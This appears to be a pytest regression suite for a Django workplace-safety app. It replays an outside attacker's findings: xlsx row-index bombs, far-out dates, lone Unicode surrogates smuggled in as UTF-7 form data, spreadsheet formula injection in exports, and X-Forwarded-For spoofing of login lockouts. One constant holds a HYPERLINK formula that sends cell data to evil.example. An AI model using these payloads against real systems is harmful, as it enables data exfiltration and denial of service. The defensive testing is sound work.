"""The outside attack's findings (S1…S11), each replayed the way the attacker did it."""

import io
import time
import zipfile
from datetime import date
from ipaddress import ip_network

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.http import HttpResponse, QueryDict
from django.test import Client
from django.urls import reverse

from worksafe.assessment.models import Period
from worksafe.assessment.services import period_create
from worksafe.audit.models import Event
from worksafe.core import xlsx
from worksafe.core.errors import Invalid
from worksafe.core.middleware import RejectSurrogatesMiddleware
from worksafe.hazards.models import Hazard
from worksafe.ledgers import importer
from worksafe.ledgers.models import ImportJob
from worksafe.ledgers.sheets import result_workbook
from worksafe.ops.security import client_ip
from worksafe.orgs.scope import may_place

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# --- S1: a ledger costs no more than its real rows ----------------------------------------------


def row_bomb(row_number: int) -> bytes:
    """A hazards ledger with a header, one data row and one row at `row_number`, and no
    <dimension>: openpyxl then yields an empty row for every number in between."""

    def cells(r: int, values: list[str]) -> str:
        return "".join(
            f'<c r="{chr(65 + i)}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values)
        )

    header = ["enterprise_uscc", "title", "level", "source", "due_date"]
    data = ["91210202MA0000000X", "bomb", "general", "self_check", "2026-12-31"]
    sheet = (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        f'<row r="1">{cells(1, header)}</row><row r="2">{cells(2, data)}</row>'
        f'<row r="{row_number}">{cells(row_number, data)}</row>'
        "</sheetData></worksheet>"
    )
    ns = "http://schemas.openxmlformats.org/package/2006/relationships"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/xl/workbook.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
            '<Override PartName="/xl/worksheets/sheet1.xml" '
            'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
            "</Types>"
        ),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{ns}">'
            f'<Relationship Id="rId1" Type="{office}/officeDocument" Target="xl/workbook.xml"/>'
            "</Relationships>"
        ),
        "xl/workbook.xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            f'xmlns:r="{office}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets></workbook>'
        ),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{ns}">'
            f'<Relationship Id="rId1" Type="{office}/worksheet" Target="worksheets/sheet1.xml"/>'
            "</Relationships>"
        ),
        "xl/worksheets/sheet1.xml": sheet,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zf:
        for name, text in parts.items():
            zf.writestr(name, text)
    return out.getvalue()


@pytest.mark.parametrize("row_number", [20_000_000, 10**12])
def test_s1_row_index_bomb_refused_fast(world, api, row_number):
    content = row_bomb(row_number)
    assert len(content) < 2000
    client = api(world.officer_a)
    client.get("/api/v1/ledgers/templates/hazards")  # the first request of a process loads the URLs
    started = time.perf_counter()
    response = client.upload(
        "/api/v1/ledgers/imports",
        {
            "kind": "hazards",
            "dry_run": True,
            "file": SimpleUploadedFile("bomb.xlsx", content, content_type=XLSX),
        },
    )
    elapsed = time.perf_counter() - started
    assert response.status_code == 422, response.content
    assert "file" in response.json()["errors"]
    assert elapsed < 2, elapsed
    assert not ImportJob.objects.exists()


def test_s1_row_limit_is_read_when_called(world, api, settings):
    settings.WORKSAFE_LEDGER_MAX_ROWS = 1
    response = api(world.officer_a).upload(
        "/api/v1/ledgers/imports",
        {
            "kind": "hazards",
            "dry_run": True,
            "file": SimpleUploadedFile("r.xlsx", row_bomb(3), content_type=XLSX),
        },
    )
    assert response.status_code == 422
    assert "1" in response.json()["errors"]["file"][0]


def test_s1_stored_bomb_is_cheap_for_the_worker_and_the_result_download(world, api):
    """A bomb stored before uploads were checked: the worker fails it and the result
    download answers, each in far less than the minutes it used to cost."""
    job = ImportJob(user=world.officer_a, kind="hazards")
    job.file.save("bomb.xlsx", ContentFile(row_bomb(20_000_000)))
    started = time.perf_counter()
    importer.import_run(job_id=job.pk)
    response = api(world.officer_a).get(f"/api/v1/ledgers/imports/{job.pk}/result")
    elapsed = time.perf_counter() - started
    job.refresh_from_db()
    assert job.status == ImportJob.Status.FAILED and "5000" in job.detail
    assert response.status_code == 200 and response["Content-Type"] == XLSX
    assert elapsed < 2, elapsed


# --- S2: one predicate says where a user may place a record -------------------------------------


def test_s2_admits_follows_the_scope(world):
    chem, gas = "hazardous_chemicals", "gas"
    a = world.enterprise_a.pk
    cases = [
        (world.admin, "420115", gas, None, True),
        (world.office, "210211", gas, None, True),
        (world.office, "420115", None, None, False),
        (world.office_gjz, "210202", None, None, False),
        (world.inspector, "210202", chem, None, True),
        (world.inspector, "210202", "construction", None, False),
        (world.inspector_zs, "210211", chem, None, False),
        (world.officer_a, "210202", chem, a, True),
        (world.officer_a, "210202", None, None, True),
        (world.officer_a, "210211", chem, a, False),  # another district
        (world.officer_a, "420115", gas, a, False),  # the outside attack
        (world.officer_a, "210202", gas, a, False),  # another industry
        (world.officer_a, "210202", chem, world.enterprise_b.pk, False),
        (world.leader, "210202", chem, None, True),
        (world.expert, "210202", chem, None, False),
    ]
    for user, region, industry, enterprise, expected in cases:
        got = may_place(user, region=region, industry=industry, enterprise=enterprise)
        assert got is expected, (user.username, region, industry, enterprise)


# --- S5: no 500 for any input ------------------------------------------------------------------


@pytest.mark.parametrize("end", ["0001-01-01", "0001-03-30", "9999-12-31"])
def test_s5a_activity_with_a_far_end_is_422_api_and_page(page, world, api, end):
    response = api(world.office).get("/api/v1/inspections/activity", end=end)
    assert response.status_code == 422 and "end" in response.json()["errors"]
    shown = page(world.office)
    for params in ({"end": end}, {"end": end, "format": "xlsx"}):
        response = shown.get(reverse("inspections:activity"), params)
        assert response.status_code == 422, params
        assert response["Content-Type"].startswith("text/html")
        assert "1900" in response.content.decode()  # the field says what it takes


def test_s5b_far_assessment_dates_refused_api_page_and_service(page, world, api):
    body = {"name": "考核", "region": "210200", "starts_on": "2026-01-01", "ends_on": "9999-12-31"}
    response = api(world.office).post("/api/v1/assessment/periods", body)
    assert response.status_code == 422 and "ends_on" in response.json()["errors"]
    response = api(world.office).post("/api/v1/assessment/periods", {**body, "starts_on": "0001-01-01"})
    assert response.status_code == 422 and "starts_on" in response.json()["errors"]
    response = page(world.office).post(reverse("assessment:create"), body)
    assert response.status_code == 422
    with pytest.raises(Invalid) as raised:
        period_create(
            actor=world.office, name="考核", region="210200", starts_on=date(2026, 1, 1), ends_on=date.max
        )
    assert "ends_on" in raised.value.errors
    assert not Period.objects.exists()


@pytest.mark.parametrize(
    "url,field,body",
    [
        ("/api/v1/hazards", "due_date", {"title": "x", "level": "general", "source": "self_check"}),
        ("/api/v1/inspections", "planned_on", {"kind": "routine"}),
    ],
)
def test_s5b_every_api_date_is_bounded(world, api, url, field, body):
    body = {**body, "enterprise": world.enterprise_a.pk, "target": world.enterprise_a.pk, field: "9999-12-31"}
    response = api(world.inspector).post(url, body)
    assert response.status_code == 422 and field in response.json()["errors"]


def test_s5b_every_page_date_is_bounded(page, world):
    response = page(world.officer_a).post(
        reverse("hazards:create"),
        {"title": "x", "level": "general", "source": "self_check", "due_date": "9999-12-31"},
    )
    assert response.status_code in (200, 422)
    assert "1900" in response.content.decode()


SURROGATE_JSON = '"\\ud800"'


@pytest.mark.parametrize("field", ["username", "password"])
def test_s5c_surrogate_at_token_endpoint_is_400_unauthenticated(world, api, field):
    body = {"username": '"officer_a"', "password": '"x"', field: SURROGATE_JSON}
    raw = "{" + ", ".join(f'"{k}": {v}' for k, v in body.items()) + "}"
    response = api(None).post("/api/v1/auth/token", raw)
    assert response.status_code == 400
    assert response.json()["detail"]


@pytest.mark.parametrize(
    "who,url,raw",
    [
        ("office", "/api/v1/organizations", '{"kind": "enterprise", "name": "x", "region": "\\ud800"}'),
        ("admin", "/api/v1/regions", '{"code": "210299", "name": "x", "parent": "\\udfff"}'),
        ("office", "/api/v1/hazards", '{"title": "ok", "\\ud800": 1}'),
    ],
)
def test_s5c_surrogate_in_api_body_is_400(world, api, who, url, raw):
    response = api(getattr(world, who)).post(url, raw)
    assert response.status_code == 400
    assert set(response.json()) == {"detail", "errors"}


def utf7_form(fields: dict) -> tuple[bytes, str]:
    """A multipart form declared as UTF-7, where "+2AA-" decodes to a lone surrogate (Django
    refuses any charset but UTF-8 on urlencoded forms, not on multipart ones). Sent with
    `generic`: `post` would re-encode the body in the declared charset."""
    boundary = "sEcBoUnDaRy"
    parts = [
        f'--{boundary}\r\nContent-Disposition: form-data; name="{name}"\r\n\r\n{value}\r\n'
        for name, value in fields.items()
    ]
    body = ("".join(parts) + f"--{boundary}--\r\n").encode("ascii")
    return body, f"multipart/form-data; boundary={boundary}; charset=utf-7"


def test_s5c_surrogate_in_api_form_is_refused(world, api):
    client = api(world.officer_a)
    body, content_type = utf7_form({"kind": "+2AA-", "dry_run": "true"})
    response = client.client.generic(
        "POST", "/api/v1/ledgers/imports", body, content_type=content_type, headers=client.headers
    )
    assert response.status_code == 422
    assert "kind" in response.json()["errors"]
    assert not ImportJob.objects.exists()


@pytest.mark.parametrize(
    "url_name,fields",
    [
        ("web:login", {"username": "+2AA-", "password": "x"}),
        ("hazards:create", {"title": "+2AA-", "level": "general", "source": "self_check"}),
    ],
)
def test_s5c_surrogate_in_a_page_form_is_400(page, world, url_name, fields):
    client = page(world.officer_a) if url_name != "web:login" else Client()
    body, content_type = utf7_form(fields)
    response = client.generic("POST", reverse(url_name), body, content_type=content_type)
    assert response.status_code == 400
    assert not Hazard.objects.exists()


def test_s5c_surrogate_in_a_page_path_or_query_is_400(rf):
    """No HTTP request can carry one there (Django decodes path and query as UTF-8 with
    replacement); the middleware still refuses one should another server hand it over."""
    reached = []
    middleware = RejectSurrogatesMiddleware(lambda request: reached.append(request) or HttpResponse())
    for path, query in (("/hazards/\ud800/", ""), ("/hazards/", "q=x")):
        request = rf.get("/hazards/")
        request.path_info = path
        if query:
            request.GET = QueryDict(mutable=True)
            request.GET["q"] = "\udc00"
        assert middleware(request).status_code == 400
    assert middleware(rf.get("/hazards/", {"q": "储罐"})).status_code == 200
    assert len(reached) == 1


# --- S6: exports never carry a live formula ----------------------------------------------------

EVIL = '=HYPERLINK("http://evil.example/?x="&C2,"x")'


def sheet_texts(content: bytes) -> list:
    """Every cell value of every sheet, after checking the raw XML holds no formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as zf:
        for name in zf.namelist():
            if name.startswith("xl/worksheets/"):
                xml = zf.read(name).decode()
                assert "<f>" not in xml and "<f " not in xml, name
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def test_s6_hazard_register_export_has_no_formula(page, world):
    world.make_hazard(
        actor=world.officer_a, source="self_check", title=EVIL, location="=1+1", responsible_person="@SUM(A1)"
    )
    response = page(world.officer_a).get(reverse("hazards:export"))
    assert response.status_code == 200
    values = sheet_texts(response.content)
    assert EVIL in values and "=1+1" in values and "@SUM(A1)" in values  # the exact text


def test_s6_activity_export_has_no_formula(page, world):
    world.dept_em.name = "=1+2"
    world.dept_em.save(update_fields=["name"])
    world.inspector.name = "-2+3"
    world.inspector.save(update_fields=["name"])
    response = page(world.office).get(reverse("inspections:activity"), {"format": "xlsx"})
    assert response.status_code == 200
    values = sheet_texts(response.content)
    assert "=1+2" in values


def test_s6_assessment_exports_have_no_formula(page, world, api):
    client = api(world.office)
    response = client.post(
        "/api/v1/assessment/periods",
        {"name": "=1+2", "region": "210200", "starts_on": "2026-01-01", "ends_on": "2026-12-31"},
    )
    assert response.status_code == 201, response.content
    period = Period.objects.get()
    assert (
        client.post(
            f"/api/v1/assessment/periods/{period.pk}/subjects", {"kind": "region", "region": "210202"}
        ).status_code
        == 201
    )
    period.indicators.update(name=EVIL)
    for response in (
        client.get(f"/api/v1/assessment/periods/{period.pk}/results.xlsx"),
        page(world.office).get(reverse("assessment:export", args=[period.pk])),
    ):
        assert response.status_code == 200
        values = sheet_texts(response.content)
        assert "=1+2" in values
        assert any(isinstance(v, str) and v.startswith(EVIL) for v in values)


def test_s6_ledger_template_and_result_have_no_formula(world, api):
    template = api(world.officer_a).get("/api/v1/ledgers/templates/hazards")
    assert template.status_code == 200
    sheet_texts(template.content)
    result = result_workbook(template.content, [{"row": 3, "message": "=1+2"}], header_rows=2)
    assert "=1+2" in sheet_texts(result)


def test_s6_safe_writer_keeps_numbers_and_ordinary_text():
    book = openpyxl.Workbook()
    sheet = book.active
    xlsx.append(sheet, ["\tx", "\r=1", "+1", "-1", -1, 2.5, "a=b"])
    values = sheet_texts(xlsx.to_bytes(book))
    assert values == ["\tx", "\n=1", "+1", "-1", -1, 2.5, "a=b"]  # XML reads CR as LF
    assert [cell.data_type for cell in sheet[1][:5]] == ["s", "s", "s", "s", "n"]
    assert sheet["A1"].quotePrefix and not sheet["G1"].quotePrefix


# --- S4: one lockout never locks everyone behind a proxy ---------------------------------------

PROXY = "10.20.0.1"
PASSWORD = "correct-horse-battery"  # noqa: S105 - the password make_user gives everyone


@pytest.fixture
def behind_proxy(settings):
    settings.TRUSTED_PROXIES = (ip_network("10.20.0.0/24"),)


def via_proxy(client_address: str) -> Client:
    return Client(REMOTE_ADDR=PROXY, headers={"X-Forwarded-For": f"{client_address}, {PROXY}"})


def token(client: Client, username: str, password: str):
    return client.post(
        "/api/v1/auth/token", {"username": username, "password": password}, content_type="application/json"
    )


def test_s4_a_locked_user_does_not_lock_others_behind_the_proxy(world, behind_proxy, settings):
    a = via_proxy("203.0.113.5")
    for _ in range(settings.AXES_FAILURE_LIMIT):
        token(a, "officer_a", "wrong-password-1")
    assert token(a, "officer_a", PASSWORD).status_code == 429
    login = reverse("web:login")
    assert a.post(login, {"username": "officer_a", "password": PASSWORD}).status_code == 429
    # B, behind the same proxy, from another client or even from A's own address
    for address in ("203.0.113.6", "203.0.113.5"):
        assert token(via_proxy(address), "officer_b", PASSWORD).status_code == 200
        assert (
            via_proxy(address).post(login, {"username": "officer_b", "password": PASSWORD}).status_code == 302
        )
    # the audit records the client's address, not the proxy's
    failed = Event.objects.filter(action="login_failed").first()
    assert failed.data["ip"] == "203.0.113.5"
    assert Event.objects.filter(action="lockout").first().data["ip"] == "203.0.113.5"
    assert Event.objects.filter(action="login").first().data["ip"] in ("203.0.113.6", "203.0.113.5")


def test_s4_forwarded_for_from_an_untrusted_sender_is_ignored(world, behind_proxy):
    spoofing = Client(REMOTE_ADDR="198.51.100.7", headers={"X-Forwarded-For": "203.0.113.9"})
    assert token(spoofing, "nobody", "wrong-password-1").status_code == 401
    assert Event.objects.get(action="login_failed").data["ip"] == "198.51.100.7"


def test_s4_client_address_is_the_rightmost_untrusted_entry(rf, behind_proxy):
    def ip(remote, forwarded):
        return client_ip(rf.get("/", REMOTE_ADDR=remote, HTTP_X_FORWARDED_FOR=forwarded))

    assert ip(PROXY, "1.1.1.1, 203.0.113.5, 10.20.0.2") == "203.0.113.5"  # 1.1.1.1 is the client's claim
    assert ip(PROXY, "") == PROXY
    assert ip(PROXY, "garbage, 10.20.0.2") == PROXY
    assert ip(PROXY, "2001:db8::1") == "2001:db8::1"
    assert ip("198.51.100.7", "203.0.113.5") == "198.51.100.7"


def test_s4_no_trusted_proxy_by_default(rf):
    assert client_ip(rf.get("/", REMOTE_ADDR=PROXY, HTTP_X_FORWARDED_FOR="203.0.113.5")) == PROXY
